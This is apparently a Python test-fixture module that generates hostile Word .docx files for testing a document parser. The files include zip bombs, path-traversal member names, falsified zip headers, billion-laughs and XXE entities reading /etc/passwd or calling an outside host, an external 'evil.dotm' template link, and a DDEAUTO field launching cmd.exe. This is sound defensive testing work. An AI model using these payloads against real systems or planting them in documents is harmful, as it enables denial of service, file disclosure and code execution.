"""Hostile Word packages: zips that swell or lie, XML without end, parts that are missing or stand elsewhere."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from xml.sax.saxutils import escape

from hostile_case import (
    CONTROL_INJECTIONS,
    GATE,
    INJECTIONS,
    LAST,
    LIMIT,
    MARKER,
    PUBLISHED,
    Table,
    specification,
)

CASES = Table("docx")
add = CASES.add

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TYPES = (
    f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
LINK = '<Relationship Id="{}" Type="' + R + '/{}" Target="{}"{}/>'
ROOT = f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{LINK.format("rId1", "officeDocument", "word/document.xml", "")}</Relationships>'  # fmt: skip
SLOW = LIMIT | GATE | {PUBLISHED, "corrupt"}
CORRUPT = frozenset(["corrupt", "unidentified"])


def paragraph(kind: str, text: str) -> str:
    """One paragraph; ``text`` is escaped."""
    style = {"title": "Title", "heading": "Heading1", "item": "ListBullet"}.get(kind)
    look = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    words = ("• " if kind == "item" else "") + escape(text)
    return f'<w:p>{look}<w:r><w:t xml:space="preserve">{words}</w:t></w:r></w:p>'


BODY = "".join(paragraph(*line) for line in specification())
TAIL = paragraph(*LAST)


def document(inside: str = "", before: str = "", body: str = BODY, after: str = TAIL) -> str:
    """The main part: the specification, ``inside``, and a last duty with the marker."""
    return f'{HEAD}{before}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}{inside}{after}</w:body></w:document>'


def members(main: str | bytes | None = None, more: Iterable[tuple[str, str | bytes]] = ()) -> list[tuple[str, bytes]]:
    """The parts of a package in order; ``more`` comes behind the three that are needed."""
    parts = [("[Content_Types].xml", TYPES), ("_rels/.rels", ROOT), ("word/document.xml", document() if main is None else main), *more]  # fmt: skip
    return [(name, part.encode() if isinstance(part, str) else part) for name, part in parts]


def packed(parts: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of (name, bytes), the same on every run."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as package:
        warnings.simplefilter("ignore")  # a name that stands twice is wanted
        for name, part in parts:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            info.compress_type = method
            with package.open(info, "w") as target:
                for start in range(0, len(part), 1 << 22):
                    target.write(part[start : start + (1 << 22)])
    return out.getvalue()


def word(main: str | bytes | None = None, more: Iterable[tuple[str, str | bytes]] = ()) -> bytes:
    """A package with the given main part."""
    return packed(members(main, more))


def linked(links: str, more: Iterable[tuple[str, str | bytes]] = (), inside: str = "") -> bytes:
    """A package whose main part has relationships."""
    text = f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>'
    return word(document(inside), [("word/_rels/document.xml.rels", text), *more])


def swollen(name: str, count: int, block: bytes, head: bytes = b"", tail: bytes = b"") -> bytes:
    """A package in which member ``name`` is head, ``count`` times a block, tail; the block is packed only once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)

    def piece(part: bytes, mode: int = zlib.Z_FULL_FLUSH) -> bytes:
        return packer.compress(part) + packer.flush(
            mode
        )  # a full flush forgets what came before: pieces may be repeated

    raw = piece(head) + piece(block) * count + piece(tail, zlib.Z_FINISH)
    check = zlib.crc32(head)
    for _ in range(count):
        check = zlib.crc32(block, check)
    about = (8, 0, 33, zlib.crc32(tail, check), len(raw), len(head) + count * len(block) + len(tail))
    data = packed(part for part in members() if part[0] != name)
    start, end = directory(data), data.rindex(b"PK\x05\x06")
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, *about, len(name), 0) + name.encode() + raw
    listed = data[start:end] + struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, *about, len(name), 0, 0, 0, 0, 0, start) + name.encode()  # fmt: skip
    number = data.count(b"PK\x01\x02") + 1
    return data[:start] + local + listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, number, number, len(listed), start + len(local), 0)  # fmt: skip


# --- zips ----------------------------------------------------------------------------------------------------------
OPENED, CLOSED = (part.encode() for part in document(after="").rsplit("</w:body>", 1))
CLOSED = b"</w:body>" + CLOSED
BLOCK = b" " * (1 << 20)
add("bomb-document-spaces-200mb", lambda: swollen("word/document.xml", 200, BLOCK, OPENED, CLOSED), SLOW)
add("bomb-document-text-300mb", lambda: swollen("word/document.xml", 300, b"weir " * 200_000, OPENED + b"<w:p><w:r><w:t>", b"</w:t></w:r></w:p>" + CLOSED), SLOW)  # fmt: skip
add("bomb-document-paragraphs-150mb", lambda: swollen("word/document.xml", 150, b"<w:p/>" * 170_000, OPENED, CLOSED), SLOW)  # fmt: skip
add("bomb-document-zeros-1gb", lambda: swollen("word/document.xml", 1024, bytes(1 << 20)), SLOW)
add("bomb-media-1gb", lambda: swollen("word/media/image1.png", 1024, bytes(1 << 20)), SLOW, marker=MARKER)
add("bomb-styles-500mb", lambda: swollen("word/styles.xml", 500, BLOCK), SLOW, marker=MARKER)
add("bomb-content-types", lambda: swollen("[Content_Types].xml", 300, BLOCK, TYPES[:-8].encode(), b"</Types>"), SLOW, marker=MARKER)  # fmt: skip
add("bomb-members-60000", lambda: word(more=((f"word/media/{k}.png", b"") for k in range(60_000))), SLOW, marker=MARKER)
add("bomb-overlapping", lambda: overlapping(2000), SLOW)
add("zip-in-zip", lambda: word(more=[("word/embeddings/a.docx", word())]), PUBLISHED, marker=MARKER, cheap=True)
for name, member in {"traversal": "../../../../tmp/canary.xml", "absolute": "/tmp/canary.xml", "windows": "..\\..\\canary.xml", "drive": "C:/canary.xml", "nul": "word/a\x00b.xml", "ansi": "word/\x1b[2Jx.xml", "long": "a/" * 30_000 + "b.xml", "empty": "", "slash": "/", "bidi": "word/\u202elmx.exe", "folder": "word/document.xml/"}.items():  # fmt: skip
    add(f"member-{name}", lambda member=member: word(more=[(member, b"x")]), PUBLISHED, CORRUPT, marker=MARKER, cheap=name != "long")  # fmt: skip
add("member-backslash", lambda: packed((name.replace("/", "\\"), part) for name, part in members()), CORRUPT, cheap=True)  # fmt: skip
add("member-case", lambda: packed((name.upper(), part) for name, part in members()), CORRUPT, PUBLISHED, cheap=True)
add("member-twice", lambda: word(more=[("word/document.xml", document(body=""))]), PUBLISHED, GATE, CORRUPT, cheap=True)
add("member-twice-same", lambda: packed(members() + members()), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)
for part in (10, 40, 70, 90, 99):
    add(f"trunc-{part}", lambda part=part: word()[: len(word()) * part // 100], CORRUPT, cheap=True)


def edited(change: Callable[[bytearray], object], data: bytes | None = None) -> bytes:
    """A package with bytes overwritten."""
    out = bytearray(word() if data is None else data)
    change(out)
    return bytes(out)


def directory(data: bytes | bytearray) -> int:
    return data.index(b"PK\x01\x02")


def put(place: Callable[[bytearray], int], layout: str, value: int) -> Callable[[bytearray], None]:
    def change(out: bytearray) -> None:
        struct.pack_into(layout, out, place(out), value)

    return change


def ending(offset: int) -> Callable[[bytearray], int]:
    return lambda out: out.rindex(b"PK\x05\x06") + offset


def entry(offset: int) -> Callable[[bytearray], int]:
    return lambda out: directory(out) + offset


for name, change in {
    "size-lie-big": put(entry(24), "<I", 0xFFFFFFFE),
    "size-lie-small": put(entry(24), "<I", 1),
    "packed-lie-big": put(entry(20), "<I", 0x7FFFFFFF),
    "packed-lie-zero": put(entry(20), "<I", 0),
    "crc-lie": put(entry(16), "<I", 0xDEADBEEF),
    "method-unknown": put(entry(10), "<H", 99),
    "method-stored": put(entry(10), "<H", 0),
    "method-bzip2": put(entry(10), "<H", 12),
    "method-lzma": put(entry(10), "<H", 14),
    "version-99": put(entry(6), "<H", 990),
    "flag-encrypted": put(entry(8), "<H", 1),
    "flag-all": put(entry(8), "<H", 0xFFFF),
    "name-length-lie": put(entry(28), "<H", 0xFFFF),
    "extra-length-lie": put(entry(30), "<H", 0xFFFF),
    "offset-lie": put(entry(42), "<I", 0x7FFFFFFF),
    "date-zero": put(entry(12), "<I", 0),
    "count-lie": put(ending(10), "<H", 0xFFFF),
    "directory-size-lie": put(ending(12), "<I", 0x7FFFFFFF),
    "directory-offset-lie": put(ending(16), "<I", 0x7FFFFFFF),
    "comment-length-lie": put(ending(20), "<H", 0xFFFF),
    "disk-number": put(ending(4), "<H", 7),
}.items():
    add(f"zip-{name}", lambda change=change: edited(change), PUBLISHED, CORRUPT, "encrypted", marker=MARKER, cheap=True)
add("zip-prefix", lambda: b"\x00" * 100 + word(), PUBLISHED, CORRUPT, "no_text")
add("zip-comment", lambda: word()[:-2] + struct.pack("<H", 60_000) + b"x" * 60_000, PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("zip-tail", lambda: word() + random.Random(6).randbytes(50_000), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)
add("zip-twice", lambda: word() + word(), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)
add("zip-stored", lambda: packed(members(), zipfile.ZIP_STORED), PUBLISHED, marker=MARKER, cheap=True)
add("zip-lzma", lambda: packed(members(), zipfile.ZIP_LZMA), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)
add("zip-no-directory", lambda: word()[: directory(word())], CORRUPT, cheap=True)
add("zip-head-only", lambda: b"PK\x03\x04word/document.xml", CORRUPT, cheap=True)
add("zip-noise", lambda: b"PK\x03\x04" + b"word/document.xml" + random.Random(7).randbytes(20_000), CORRUPT, cheap=True)
add("zip-bad-deflate", lambda: edited(lambda out: out.__setitem__(slice(60, 90), bytes(30))), CORRUPT, cheap=True)


def overlapping(count: int) -> bytes:
    """Many directory entries that all name one swelling member."""
    kernel = zlib.compress(b"<w:p/>" * 2_000_000, 9)[2:-4]
    name = b"word/document.xml"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, len(kernel), 12_000_000, len(name), 0) + name + kernel  # fmt: skip
    listed = b"".join(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0, len(kernel), 12_000_000, len(part), 0, 0, 0, 0, 0, 0) + part for part in (b"word/%06d" % k for k in range(count)))  # fmt: skip
    return local + listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(listed), len(local), 0)


# --- parts -----------------------------------------------------------------------------------------------------------
for number, name in enumerate(("content-types", "root-links", "document")):
    add(f"missing-{name}", lambda number=number: packed(part for k, part in enumerate(members()) if k != number), CORRUPT, cheap=True)  # fmt: skip
    add(f"empty-{name}", lambda number=number: packed((part[0], b"" if k == number else part[1]) for k, part in enumerate(members())), CORRUPT, cheap=True)  # fmt: skip
    add(f"noise-{name}", lambda number=number: packed((part[0], random.Random(8).randbytes(4000) if k == number else part[1]) for k, part in enumerate(members())), CORRUPT, cheap=True)  # fmt: skip
    add(f"other-xml-{name}", lambda number=number: packed((part[0], b"<a><b/></a>" if k == number else part[1]) for k, part in enumerate(members())), CORRUPT, GATE, cheap=True)  # fmt: skip
    add(f"utf-16-{name}", lambda number=number: packed((part[0], part[1].replace(b"UTF-8", b"UTF-16").decode().encode("utf-16") if k == number else part[1]) for k, part in enumerate(members())), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("root-links-to-itself", lambda: packed((n, p.replace(b"word/document.xml", b"_rels/.rels") if n == "_rels/.rels" else p) for n, p in members()), CORRUPT, cheap=True)  # fmt: skip
add("root-links-outside", lambda: packed((n, p.replace(b"word/document.xml", b"file:///etc/passwd") if n == "_rels/.rels" else p) for n, p in members()), CORRUPT, cheap=True)  # fmt: skip
add("root-links-external", lambda: packed((n, p.replace(b'word/document.xml"', b'http://x.example/a" TargetMode="External"') if n == "_rels/.rels" else p) for n, p in members()), CORRUPT, cheap=True)  # fmt: skip
add("template-external", lambda: linked(LINK.format("rId9", "attachedTemplate", "http://x.example/evil.dotm", ' TargetMode="External"')), PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("image-external-file", lambda: linked(LINK.format("rId9", "image", "file:///etc/passwd", ' TargetMode="External"')), PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("link-traversal", lambda: linked(LINK.format("rId9", "styles", "../../../../etc/passwd", "")), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("link-missing-part", lambda: linked(LINK.format("rId9", "styles", "styles.xml", "")), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("link-to-itself", lambda: linked(LINK.format("rId9", "styles", "document.xml", "")), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("link-ids-same", lambda: linked(LINK.format("rId1", "styles", "a.xml", "") * 2, [("word/a.xml", "<a/>")]), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("links-1e5", lambda: linked("".join(LINK.format(f"rId{k}", "hyperlink", f"http://x.example/{k}", ' TargetMode="External"') for k in range(100_000))), SLOW, marker=MARKER)  # fmt: skip
add("header-missing", lambda: linked("", inside='<w:sectPr><w:headerReference w:type="default" r:id="rId77"/></w:sectPr>'), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
STYLES = f'{HEAD}<w:styles xmlns:w="{W}">{{}}</w:styles>'
for name, style in {
    "based-on-itself": '<w:style w:type="paragraph" w:styleId="Title"><w:name w:val="Title"/><w:basedOn w:val="Title"/></w:style>',
    "based-on-loop": '<w:style w:type="paragraph" w:styleId="Title"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="Title"/></w:style>',
    "no-name": '<w:style w:type="paragraph" w:styleId="Title"/><w:style/>',
    "name-empty": '<w:style w:type="paragraph" w:styleId="Title"><w:name/></w:style>',
    "type-unknown": '<w:style w:type="nonsense" w:styleId="Title"><w:name w:val="Title"/></w:style>',
    "heading-odd": '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading ³"/></w:style><w:style w:type="paragraph" w:styleId="Title"><w:name w:val="heading 99999"/></w:style>',
    "size-odd": '<w:style w:type="paragraph" w:default="maybe" w:styleId="Title"><w:name w:val="Title"/><w:rPr><w:sz w:val="huge"/><w:b w:val="perhaps"/></w:rPr></w:style>',
}.items():
    add(f"styles-{name}", lambda style=style: packed([*((n, p.replace(b"</Types>", b'<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>')) for n, p in members()), ("word/_rels/document.xml.rels", f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{LINK.format("rId9", "styles", "styles.xml", "")}</Relationships>'.encode()), ("word/styles.xml", STYLES.format(style).encode())]), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip

# --- XML -------------------------------------------------------------------------------------------------------------
LAUGHS = "<!DOCTYPE w [<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{k} '{f'&l{k - 1};' * 10}'>" for k in range(1, 12)) + "]>"  # fmt: skip
SAID = "<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>"
for name, before in {
    "laughs": LAUGHS,
    "quadratic": "<!DOCTYPE w [<!ENTITY l11 '" + "ha" * 50_000 + "'>]>",
    "external": "<!DOCTYPE w [<!ENTITY l11 SYSTEM 'file:///etc/passwd'>]>",
    "network": "<!DOCTYPE w [<!ENTITY l11 SYSTEM 'http://x.example/a'>]>",
    "parameter": "<!DOCTYPE w [<!ENTITY % a SYSTEM 'file:///etc/passwd'> %a; <!ENTITY l11 'x'>]>",
    "itself": "<!DOCTYPE w [<!ENTITY l11 '&l11;'>]>",
    "dtd": "<!DOCTYPE w SYSTEM 'file:///dev/zero' [<!ENTITY l11 'x'>]>",
}.items():
    said = SAID * (2000 if name == "quadratic" else 1)
    add(f"entity-{name}", lambda before=before, said=said: word(document(said, before)), SLOW, marker=MARKER)
add("entity-undeclared", lambda: word(document(SAID)), CORRUPT, cheap=True)
add("xinclude", lambda: word(document('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')), PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
for tag in ("w:tbl><w:tr><w:tc", "w:sdt><w:sdtContent", "w:p><w:r><w:pict><w:txbxContent", "w:ins", "w:smartTag", "w:customXml", "w:x"):  # fmt: skip
    shut = "></".join(reversed(tag.split("><")))
    label = tag.split("><")[-1].removeprefix("w:")
    for depth in (40, 3000):
        add(f"deep-{label}-{depth}", lambda tag=tag, shut=shut, depth=depth: word(document(f"<{tag}>" * depth + paragraph("text", "Deep.") + f"</{shut}>" * depth)), SLOW, marker=MARKER if depth == 40 else "")  # fmt: skip
add("tables-1000", lambda: word(document(("<w:tbl>" + "<w:tr>" + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 3 + "</w:tr></w:tbl>") * 1000)), SLOW, marker=MARKER)  # fmt: skip
add("runs-1e6", lambda: word(document("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 1_000_000 + "</w:p>")), SLOW)
add("runs-2e4-a-paragraph", lambda: word(document("<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 20_000 + "</w:p>")), SLOW)
add("paragraphs-empty-2e4", lambda: word(document("<w:p/>" * 20_000)), SLOW, marker=MARKER)
add("paragraphs-1e5", lambda: word(document(paragraph("item", "Clears racks.") * 100_000)), SLOW)
add("breaks-1e5", lambda: word(document("<w:p><w:r>" + "<w:t>a</w:t><w:br/>" * 100_000 + "</w:r></w:p>")), SLOW)
add("boxes-1000", lambda: word(document("<w:p>" + "<w:r><w:pict><w:txbxContent><w:p><w:r><w:t>box</w:t></w:r></w:p></w:txbxContent></w:pict></w:r>" * 1000 + "</w:p>")), SLOW)  # fmt: skip
add("table-1000-columns", lambda: word(document("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 1000 + "</w:tr>") * 20 + "</w:tbl>")), SLOW)  # fmt: skip
add("attribute-1mb", lambda: word(document(f'<w:p w:rsidR="{"a" * 1_000_000}"/>')), SLOW, marker=MARKER)
add("text-11mb", lambda: word(document("<w:p><w:r><w:t>" + "keeps weirs " * 950_000 + "</w:t></w:r></w:p>")), SLOW)
add("headings-5000", lambda: word(document(paragraph("heading", "Duties") * 5000)), SLOW)
for name, inside in {
    "no-text-in-runs": "<w:p><w:r/><w:r><w:t/></w:r></w:p>",
    "text-outside": "<w:t>lost</w:t><w:r><w:t>lost</w:t></w:r>",
    "level-odd": '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="-1"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>',
    "level-name": '<w:p><w:pPr><w:numPr><w:ilvl w:val="³"/><w:numId w:val="x"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>',
    "size-name": '<w:p><w:r><w:rPr><w:sz w:val="huge"/></w:rPr><w:t>a</w:t></w:r></w:p>',
    "size-huge": '<w:p><w:r><w:rPr><w:sz w:val="99999999999999999999"/></w:rPr><w:t>a</w:t></w:r></w:p>',
    "size-none": "<w:p><w:r><w:rPr><w:sz/></w:rPr><w:t>a</w:t></w:r></w:p>",
    "bold-odd": '<w:p><w:r><w:rPr><w:b w:val="perhaps"/></w:rPr><w:t>a</w:t></w:r></w:p>',
    "style-missing": '<w:p><w:pPr><w:pStyle w:val="NoSuch"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>',
    "style-no-value": "<w:p><w:pPr><w:pStyle/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>",
    "section-odd": '<w:sectPr><w:headerReference/><w:footerReference w:type="x" r:id=""/></w:sectPr>',
    "comment-node": "<!-- a --><?b c?>",
    "comment-in-run": "<w:p><w:r><w:t>a<!-- b -->c<?d e?></w:t></w:r></w:p>",
    "cell-spans": '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge w:val="x"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
    "row-without-cells": "<w:tbl><w:tr/><w:tr><w:tc/></w:tr></w:tbl>",
    "field-code": '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    "deleted": "<w:p><w:del><w:r><w:delText>Commands the navy.</w:delText></w:r></w:del></w:p>",
    "hidden": "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Commands the navy.</w:t></w:r></w:p>",
    "alternate": '<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice><w:r><w:t>a</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>a</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>',
    "namespace-other": '<x:p xmlns:x="urn:x"><x:t>a</x:t></x:p>',
}.items():  # fmt: skip
    add(f"xml-{name}", lambda inside=inside: word(document(inside)), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)
add("xml-not-closed", lambda: word(document()[:-30]), CORRUPT, cheap=True)
add("xml-two-roots", lambda: word(document() + "<a/>"), CORRUPT, cheap=True)
add("xml-control", lambda: word(document("<w:p><w:r><w:t>a\x01b</w:t></w:r></w:p>")), CORRUPT, PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("xml-bad-utf-8", lambda: word(document().encode().replace(b"racks", b"ra\xff\xfeks")), CORRUPT, PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("xml-surrogate", lambda: word(document("<w:p><w:r><w:t>&#xD800;</w:t></w:r></w:p>")), CORRUPT, PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("xml-strict-namespace", lambda: word(document().replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main")), CORRUPT, GATE, cheap=True)  # fmt: skip
add("xml-no-body", lambda: word(f'{HEAD}<w:document xmlns:w="{W}"/>'), CORRUPT, GATE, cheap=True)
add("xml-no-words", lambda: word(document(body="", after="")), "no_text", "corrupt", cheap=True)

# --- what would act, what is locked -------------------------------------------------------------------------------------
XML_TEXT = {name: pair for name, pair in CONTROL_INJECTIONS.items() if name not in ("ansi", "noncharacter")}
for name, (title, code) in {**INJECTIONS, **XML_TEXT}.items():
    body = "".join(paragraph(*line) for line in specification(title, code))
    add(f"title-{name}", lambda body=body: word(document(body=body)), PUBLISHED, GATE, marker=MARKER, cheap=name != "long")  # fmt: skip
add("macro", lambda: word(more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000))]), PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("chunk-html", lambda: linked(LINK.format("rId9", "aFChunk", "a.xml", ""), [("word/a.xml", "<script>alert(1)</script>")], '<w:altChunk r:id="rId9"/>'), "truncated")  # fmt: skip
add("footnote", lambda: _noted(), PUBLISHED, marker=MARKER, cheap=True)
for name, (opening, closing) in {
    "moved-here": ('<w:moveTo w:id="1" w:author="a">', "</w:moveTo>"),
    "alternate-block": ('<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps">', "</mc:Choice></mc:AlternateContent>"),
}.items():  # fmt: skip
    add(f"xml-{name}", lambda opening=opening, closing=closing: word(document(after=opening + TAIL + closing)), PUBLISHED, marker=MARKER, cheap=True)  # fmt: skip
add("ole-object", lambda: linked(LINK.format("rId9", "oleObject", "embeddings/a.bin", ""), [("word/embeddings/a.bin", b"MZ" + bytes(2000))]), PUBLISHED, CORRUPT, marker=MARKER, cheap=True)  # fmt: skip
add("locked-ole", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(4000), "encrypted", cheap=True)  # fmt: skip
add("locked-zip", lambda: edited(lambda out: _lock_all(out)), "encrypted", CORRUPT, cheap=True)
add("plain", word, PUBLISHED, marker=MARKER, cheap=True)


def _lock_all(out: bytearray) -> None:
    """Set the flag of encryption in every header."""
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + offset] |= 1
            at = out.find(mark, at + 4)


def _noted() -> bytes:
    """A package whose last duty is a footnote."""
    parts = dict(members(document(after="")))
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    listed = f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/></Types>'
    parts["[Content_Types].xml"] = TYPES.replace("</Types>", listed).encode()
    link = LINK.format("rId9", "footnotes", "footnotes.xml", "")
    parts["word/_rels/document.xml.rels"] = f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{link}</Relationships>'.encode()  # fmt: skip
    notes = f'<w:footnote w:type="separator" w:id="0"/><w:footnote w:id="2">{TAIL}</w:footnote>'
    parts["word/footnotes.xml"] = f'{HEAD}<w:footnotes xmlns:w="{W}">{notes}</w:footnotes>'.encode()
    return packed(parts.items())
